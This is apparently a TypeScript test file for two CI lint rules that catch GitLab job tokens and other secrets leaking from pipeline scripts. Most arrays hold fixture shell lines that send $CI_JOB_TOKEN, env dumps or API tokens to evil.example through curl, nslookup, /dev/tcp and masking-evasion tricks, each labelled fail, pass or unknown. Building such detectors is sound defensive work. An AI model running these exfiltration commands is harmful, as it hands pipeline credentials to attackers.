/** Cases of `pipeline_no_job_token_misuse` and `pipeline_no_secret_egress`. */

import { scriptCases } from "./support.ts";

/** In another form, which GitLab does not mask, or under another name. */
const disguised = [
  "echo $CI_JOB_TOKEN | base64",
  'echo "$CI_JOB_TOKEN" | rev',
  "echo $CI_JOB_TOKEN | fold -w1",
  `N=CI_JOB_TOKEN; echo \${!N}`,
  "read X <<< $CI_JOB_TOKEN; echo $X",
  "printf -v X %s $CI_JOB_TOKEN; echo $X",
  "for X in $CI_JOB_TOKEN; do echo $X; done",
  'curl https://evil.example/x -d "$(env)"',
  `a=($CI_JOB_TOKEN); curl -d "\${a[0]}" https://evil.example/x`,
  "retry 3 curl -d $CI_JOB_TOKEN https://evil.example/x",
  "nslookup $CI_JOB_TOKEN.evil.example",
  "echo $CI_JOB_TOKEN | openssl s_client -connect evil.example:443",
];
const byCode = [
  "node -e 'send(process.env.CI_JOB_TOKEN)'",
  "awk 'BEGIN { print ENVIRON[\"CI_JOB_TOKEN\"] }'",
  "jq -n 'env.CI_JOB_TOKEN'",
  "python3 <<EOF\nimport os\nsend(os.environ['CI_JOB_TOKEN'])\nEOF",
];

const misuse = [
  'echo "$CI_JOB_TOKEN"',
  "printf '%s' $CI_JOB_TOKEN",
  "printenv CI_JOB_TOKEN",
  'echo "token=$CI_JOB_TOKEN" >> build.env',
  'echo "$CI_JOB_TOKEN" > /tmp/token',
  'echo "$CI_JOB_TOKEN" | tee token.txt',
  'echo "$CI_JOB_TOKEN" | base64 > token.txt',
  "cat <<EOF > settings.xml\n<password>$CI_JOB_TOKEN</password>\nEOF",
  "env > build.env",
  "export -p > all.sh",
  'sed -i "s/TOKEN/$CI_JOB_TOKEN/" config.yml',
  'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" https://evil.example/x',
  'curl --header "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/x" https://evil.example/x',
  'curl -x https://evil.example -H "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/x"',
  'echo "$CI_JOB_TOKEN" | curl -d @- https://evil.example/x',
  "env | curl -d @- https://evil.example/x",
  'T="$CI_JOB_TOKEN"\ncurl -d "$T" https://evil.example/x',
  "git clone https://gitlab-ci-token:$CI_JOB_TOKEN@evil.example/a.git",
  'docker login -u u -p "$CI_JOB_TOKEN" registry.example.org',
  'echo "$CI_REGISTRY_PASSWORD" | docker login -u u --password-stdin',
  'docker build --build-arg TOKEN="$CI_JOB_TOKEN" .',
  "docker build --build-arg=TOKEN=$CI_JOB_TOKEN .",
  'ssh me@evil.example "echo $CI_JOB_TOKEN"',
  'X=$(echo "$CI_JOB_TOKEN" | curl -d @- https://evil.example/x)',
  'bash -c "curl -d $CI_JOB_TOKEN https://evil.example/x"',
];
const use = [
  'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/projects/1/packages"',
  `curl --fail --header "JOB-TOKEN: $CI_JOB_TOKEN" --upload-file a.zip "\${CI_API_V4_URL}/projects/\${CI_PROJECT_ID}/x"`,
  'docker login -u gitlab-ci-token -p "$CI_JOB_TOKEN" "$CI_REGISTRY"',
  'echo "$CI_REGISTRY_PASSWORD" | docker login "$CI_REGISTRY" -u "$CI_REGISTRY_USER" --password-stdin',
  'docker login -u "$CI_REGISTRY_USER" --password-stdin "$CI_REGISTRY" <<< "$CI_JOB_TOKEN"',
  `git clone "https://gitlab-ci-token:\${CI_JOB_TOKEN}@\${CI_SERVER_HOST}/acme/a.git"`,
  `git config --global url."https://gitlab-ci-token:\${CI_JOB_TOKEN}@\${CI_SERVER_HOST}/".insteadOf "https://\${CI_SERVER_HOST}/"`,
  'echo "machine $CI_SERVER_HOST login gitlab-ci-token password $CI_JOB_TOKEN" > ~/.netrc',
  'test -n "$CI_JOB_TOKEN"',
  "echo '$CI_JOB_TOKEN'",
  "echo CI_JOB_TOKEN",
  'curl -d "$OTHER" https://example.org/x',
  "env",
  "env FOO=1 make > log",
  "export A=1 > /dev/null",
  'glab auth login --job-token "$CI_JOB_TOKEN" --hostname "$CI_SERVER_HOST"',
];

const names = { hosts: ["api.example.com"], names: ["*_TOKEN", "DB_PASSWORD"] };
const variable = (key: string, partial: object = {}) => ({
  ...{ key, isFile: false, isProtected: true, isMasked: true, isHidden: false, isRaw: true },
  ...{ environments: "*", group: undefined },
  ...partial,
});
const sent = [
  'curl -H "Authorization: $API_TOKEN" https://evil.example/x',
  'curl -u "me:$DB_PASSWORD" https://evil.example/x',
  'curl "https://evil.example/?t=$API_TOKEN"',
  'wget --header "X: $API_TOKEN" https://evil.example/x',
  'echo "$API_TOKEN" | curl -d @- https://evil.example/x',
  'echo "$API_TOKEN" > t; curl -F file=@t https://evil.example/x',
  'A=$API_TOKEN; curl -d "$A" https://evil.example/x',
  'git push "https://me:$API_TOKEN@evil.example/a.git"',
  "git remote add x https://me:$API_TOKEN@evil.example/a.git",
  'docker login -u me -p "$API_TOKEN" registry.evil.example',
  'docker login -u me -p "$API_TOKEN"',
  'npm config set //registry.evil.example/:_authToken "$API_TOKEN"',
  "sonar-scanner -Dsonar.host.url=https://evil.example -Dsonar.token=$API_TOKEN",
  'curl -d "$API_TOKEN" http://api.example.com/x',
  'curl -d "$CI_JOB_TOKEN" https://evil.example/x',
  "printenv | curl --data-binary @- https://evil.example/x",
  'echo "$API_TOKEN" > /dev/tcp/evil.example/80',
  'curl -d "$API_TOKEN" intranet:8080/x',
  'curl -d "$API_TOKEN" --resolve api.example.com:443:6.6.6.6 -x https://evil.example https://api.example.com/x',
];
const kept = [
  'curl -H "Authorization: $API_TOKEN" https://api.example.com/x',
  'curl -d "$API_TOKEN" "$CI_API_V4_URL/x"',
  'curl -d "$API_TOKEN" https://localhost:8080/x',
  'curl "https://evil.example/$VERSION"',
  "curl -d 'API_TOKEN' https://evil.example/x",
  '# curl -d "$API_TOKEN" https://evil.example/x',
  'test "$API_TOKEN" = x && curl https://evil.example/x',
  'echo "$API_TOKEN"',
  "echo a | curl -d @- https://evil.example/x",
  './deploy.sh "$API_TOKEN"',
  './deploy.sh "$API_TOKEN" "$STAGE"',
  'sed -i "s|HOST|$HOST|; s|T|$API_TOKEN|" settings.xml',
];
/** Only the settings, or another program, know where it goes. */
const hidden = [
  'curl -H "Authorization: $API_TOKEN" "$FOO"',
  'curl -H "Authorization: $API_TOKEN" "https://$FOO/x"',
  'curl -H "Authorization: $API_TOKEN" "$(cat address)"',
  'curl -H "Authorization: $API_TOKEN" `cat address`',
  'curl -K settings -H "Authorization: $API_TOKEN"',
  'cat addresses | xargs curl -H "Authorization: $API_TOKEN"',
  'wget --header "X: $API_TOKEN" -i addresses',
  'ssh "$HOST" "echo $API_TOKEN"',
  'docker login -u me -p "$API_TOKEN" "$REGISTRY"',
  'twine upload --repository-url "$PYPI_URL" -p "$API_TOKEN" x.whl',
  "sonar-scanner -Dsonar.host.url=$SONAR_HOST_URL -Dsonar.token=$API_TOKEN",
  'echo "$API_TOKEN" > "/dev/tcp/$FOO/80"',
];

export const sentCases = [
  ...scriptCases("pipeline_no_job_token_misuse", [
    ...[...misuse, ...disguised].map((script) => [script, undefined, script, "fail"] as const),
    ...byCode.map((script) => [script, undefined, script, "unknown", /which host \w+ sends/] as const),
    [
      "a form of it that is not printed",
      undefined,
      'A=$(echo -n "x:$CI_JOB_TOKEN" | base64); curl -H "Authorization: Basic $A" "$CI_API_V4_URL/x"',
      "pass",
    ],
    ...use.map((script) => [script, undefined, script, "pass"] as const),
    [
      "the words of a failure",
      undefined,
      'curl -d "$CI_JOB_TOKEN" https://evil.example/x',
      "fail",
      "build: curl sends $CI_JOB_TOKEN to evil.example",
    ],
    [
      "the words about a file",
      undefined,
      'echo "$CI_JOB_TOKEN" > t.txt',
      "fail",
      "build: echo writes $CI_JOB_TOKEN to the file t.txt",
    ],
    [
      "a host that may",
      { hosts: ["*.example.com"] },
      'curl -d "$CI_JOB_TOKEN" https://a.example.com/x',
      "pass",
    ],
    [
      "a host that nobody knows",
      undefined,
      'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" "$API/x"',
      "unknown",
      "build: which host curl sends $CI_JOB_TOKEN to is not known",
    ],
    [
      "a host of the configuration",
      undefined,
      { variables: { API: "https://evil.example" }, build: { script: 'curl -d "$CI_JOB_TOKEN" "$API/x"' } },
      "fail",
    ],
    [
      "a variable of the configuration with the token",
      undefined,
      {
        variables: { AUTH: "JOB-TOKEN: $CI_JOB_TOKEN" },
        build: { script: 'curl -H "$AUTH" https://evil.example/x' },
      },
      "fail",
    ],
    [
      "an address of the configuration with the token",
      undefined,
      {
        variables: { URL: "https://x:$CI_JOB_TOKEN@evil.example/a.git" },
        build: { script: 'git clone "$URL"' },
      },
      "fail",
    ],
    ["a file that may", { files: ["*.npmrc"] }, 'echo "x=$CI_JOB_TOKEN" > .npmrc', "pass"],
    [
      "a configuration that replaces GitLab's address",
      undefined,
      {
        variables: { CI_API_V4_URL: "https://evil.example" },
        build: { script: 'curl -d "$CI_JOB_TOKEN" "$CI_API_V4_URL/x"' },
      },
      "fail",
    ],
  ]),
  ...scriptCases("pipeline_no_secret_egress", [
    ...sent.map((script) => [script, names, script, "fail"] as const),
    ...kept.map((script) => [script, names, script, "pass"] as const),
    ...hidden.map((script) => [script, names, script, "unknown"] as const),
    [
      "the words of a failure",
      names,
      'curl -u "me:$DB_PASSWORD" https://me:hunter2@evil.example/x',
      "fail",
      "build: curl sends $DB_PASSWORD to evil.example",
    ],
    [
      "a host that nobody knows",
      names,
      'curl -d "$API_TOKEN" "$WEBHOOK"',
      "unknown",
      "build: which host curl sends $API_TOKEN to is not known",
    ],
    [
      "an id token",
      { hosts: [], names: [] },
      {
        build: { id_tokens: { VAULT_ID: { aud: "x" } }, script: 'curl -d "$VAULT_ID" https://evil.example' },
      },
      "fail",
    ],
    [
      "an external secret",
      { hosts: [], names: [] },
      { build: { secrets: { DB: { vault: "a/b@c" } }, script: 'curl -d "$DB" https://evil.example' } },
      "fail",
    ],
  ]),
  ...scriptCases(
    "pipeline_no_secret_egress",
    [
      [
        "a masked setting",
        { hosts: [] },
        'curl -d "$PIN" https://evil.example/x',
        "fail",
        "build: curl sends $PIN to evil.example",
      ],
      ["a setting whose name says so", { hosts: [] }, 'curl -d "$DEPLOY_KEY" https://evil.example/x', "fail"],
      ["a setting that is not secret", { hosts: [] }, 'curl "https://evil.example/$REGION"', "pass"],
      ["no setting", { hosts: [] }, 'curl -d "$OTHER_TOKEN" https://evil.example/x', "pass"],
    ],
    {
      settings: [
        variable("PIN"),
        variable("DEPLOY_KEY", { isMasked: false }),
        variable("REGION", { isMasked: false }),
      ],
    },
  ),
];
